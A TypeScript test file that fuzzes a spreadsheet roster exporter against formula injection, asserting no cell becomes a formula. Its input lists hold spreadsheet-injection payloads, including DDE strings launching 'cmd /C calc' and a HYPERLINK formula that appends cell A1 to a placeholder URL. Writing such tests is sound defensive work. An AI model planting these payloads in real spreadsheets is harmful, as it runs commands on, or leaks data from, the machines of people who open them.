import ExcelJS from 'exceljs'
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { readZip } from '../../../src/main/cadres/zip-guard'
import { cellText } from '../../../src/main/exports/cell-text'
import { writeTableXlsx } from '../../../src/main/exports/table-xlsx'
import type { TableValue } from '../../../src/shared/papers/table-paper'

const furniture = {
  sheetName: '干部名册',
  notes: '制表单位：测试',
  foot: '内部　〔2030〕第 1 号',
  sheet: { size: 'A4' as const, upright: false },
}
type Table = Parameters<typeof writeTableXlsx>[0]
const tableOf = (rows: readonly (readonly TableValue[])[]): Table => ({
  title: '干部名册',
  columns: (rows[0] ?? ['']).map((_value, index) => ({ title: `列${index}`, width: 8, align: 'left' as const })),
  groups: [{ heading: '', rows }],
})
async function sheetOf(bytes: Uint8Array): Promise<ExcelJS.Worksheet> {
  const book = new ExcelJS.Workbook()
  await book.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer)
  const [sheet] = book.worksheets
  if (!sheet || book.worksheets.length !== 1) throw new Error('one sheet')
  return sheet
}
/** Title, notes and head. */
const ABOVE = 3

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  ' =',
  '\u00A0=',
  '\uFEFF=',
  "'=",
  '"=',
  ';',
  ',=',
]
const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://例.invalid/"&A1,"查看")',
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML(CONCAT("x",A1),"//a")',
  'WEBSERVICE("x")',
  "10+20+cmd|'/C notepad'!A1",
  'SUM(A1:A9)',
  '_xlfn.DISPIMG("ID_1",1)',
  '2030-01-02',
  '370199198403120021',
  '1E5',
  'TRUE',
  '王芳',
]
const odd = [
  '',
  '#REF!',
  '#N/A',
  '#VALUE!',
  '#NAME?',
  '#DIV/0!',
  '#SPILL!',
  '#不是错误',
  '_x0041_',
  '_x000D_',
  '_x0041_x0042_',
  '_x005F_',
  '_X0041_',
  'a\r\nb\rc\nd',
  '\u202E王芳\u202C',
  '\u200Bx',
  '王\0芳',
  '\u0007铃',
  '\uD800半',
  '半\uDC00',
  '\uFFFE\uFFFF',
  '𠮷𫍯㛃䶮',
  '🏛',
  'é',
  'e\u0301',
  '　缩进',
  ' 前后 ',
  '<b>&amp;</b>',
  ']]>',
  '"引号"',
  "'单引号",
  '0012',
  '1.50',
  '%41',
  '\u2028行',
]
const hostile = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.tuple(fc.constantFrom(...starts), fc.constantFrom(...bodies)).map(parts => parts.join('')),
  },
  { weight: 2, arbitrary: fc.constantFrom(...odd) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...starts, ...odd), fc.string({ unit: 'binary', maxLength: 60 }))
      .map(parts => parts.join('')),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...starts), fc.integer({ min: 32_700, max: 32_900 }))
      .map(([start, length]) => start + '长'.repeat(length)),
  },
)

test('10,000 hostile strings: no cell is a formula, and every text is read back as it was', async () => {
  const texts = fc.sample(hostile, { seed: 77, numRuns: 10_000 })
  const rows = Array.from({ length: 1000 }, (_, row) => texts.slice(row * 10, row * 10 + 10))
  const { bytes, cut } = await writeTableXlsx(tableOf(rows), furniture)
  const parts = await readZip(bytes, () => true, { entries: 100, total: 1e9, ratio: 1e4, ratioFrom: 1e9 })
  if (!parts.ok) throw new Error(parts.failure.why)
  for (const [name, part] of parts.value)
    expect(part.toString('utf8'), name).not.toMatch(/<f[\s>/]|<ddeLink|<externalLink/)
  const sheet = await sheetOf(bytes)
  let formulas = 0
  let read = 0
  for (const [index, row] of rows.entries())
    for (const [column, stored] of row.entries()) {
      const cell = sheet.getCell(index + ABOVE + 1, column + 1)
      if (cell.type === ExcelJS.ValueType.Formula || cell.formula) formulas += 1
      const expected = cellText(stored).text
      if (expected === '') expect(cell.type).toBe(ExcelJS.ValueType.Null)
      else {
        expect([ExcelJS.ValueType.String, ExcelJS.ValueType.RichText]).toContain(cell.type)
        expect(cell.numFmt).toBe('@')
        if (cell.text !== expected) expect(cell.text, JSON.stringify(stored.slice(0, 80))).toBe(expected)
        read += 1
      }
    }
  expect(formulas).toBe(0)
  expect(read).toBeGreaterThan(9000)
  expect(cut).toBe(texts.filter(text => cellText(text).cut).length)
  expect(cut).toBeGreaterThan(100)
})

describe('what a cell makes of a text', () => {
  test.each([
    ['=1+1', '=1+1'],
    ['＝1+1', '＝1+1'],
    ['a\r\nb\rc', 'a\nb\nc'],
    ['王\0芳\u0085', '王芳'],
    ['\t表', '\t表'],
    ['\uD800', '\uFFFD'],
    ['𠮷', '𠮷'],
    ['\u202Eabc', '\u202Eabc'],
  ])('%j reads %j', (stored, expected) => {
    expect(cellText(stored)).toEqual({ text: expected, cut: false })
  })
  test('one that is too long says what is missing', () => {
    expect(cellText('长'.repeat(32_767)).cut).toBe(false)
    const { text, cut } = cellText('长'.repeat(40_000))
    expect(cut).toBe(true)
    expect(text).toMatch(/……（后面还有 7273 字，一格放不下）$/)
    expect(text.length).toBeLessThanOrEqual(32_767)
  })
})

test('a roster as a second reader sees it: title, notes, head, groups, people, paper', async () => {
  const table: Table = {
    title: '干部名册',
    columns: [
      { title: '序号', width: 3, align: 'center' },
      { title: '姓名', width: 5, align: 'center' },
      { title: '现任职务', width: 16, align: 'left' },
    ],
    groups: [
      {
        heading: '石桥镇（2人）',
        rows: [
          [1, '王芳', '书记'],
          [2, '李强', '镇长'],
        ],
      },
      { heading: '云溪街道（1人）', rows: [[3, '赵山', null]] },
    ],
  }
  const { bytes } = await writeTableXlsx(table, { ...furniture, sheet: { size: 'A3', upright: false }, foot: 'A&B' })
  const sheet = await sheetOf(bytes)
  const rows = Array.from({ length: sheet.rowCount }, (_, row) =>
    table.columns.map((_column, column) => sheet.getCell(row + 1, column + 1).value),
  )
  expect(rows.map(([first]) => first)).toEqual([
    '干部名册',
    '制表单位：测试',
    '序号',
    '石桥镇（2人）',
    1,
    2,
    '云溪街道（1人）',
    3,
  ])
  expect(rows[2]).toEqual(['序号', '姓名', '现任职务'])
  expect(rows[4]).toEqual([1, '王芳', '书记'])
  expect(rows[7]).toEqual([3, '赵山', null])
  expect(sheet.getCell('A4').isMerged && sheet.getCell('C4').master.address).toBe('A4')
  expect(sheet.pageSetup).toMatchObject({ orientation: 'landscape', paperSize: 8, fitToWidth: 1, fitToHeight: 0 })
  expect(sheet.pageSetup.printTitlesRow).toBe('3:3')
  expect(sheet.pageSetup.printArea).toBe('A1:C8')
  expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 })
  expect(sheet.headerFooter.oddFooter).toContain('A&&B')
  expect(sheet.workbook.creator ?? '').toBe('')
})
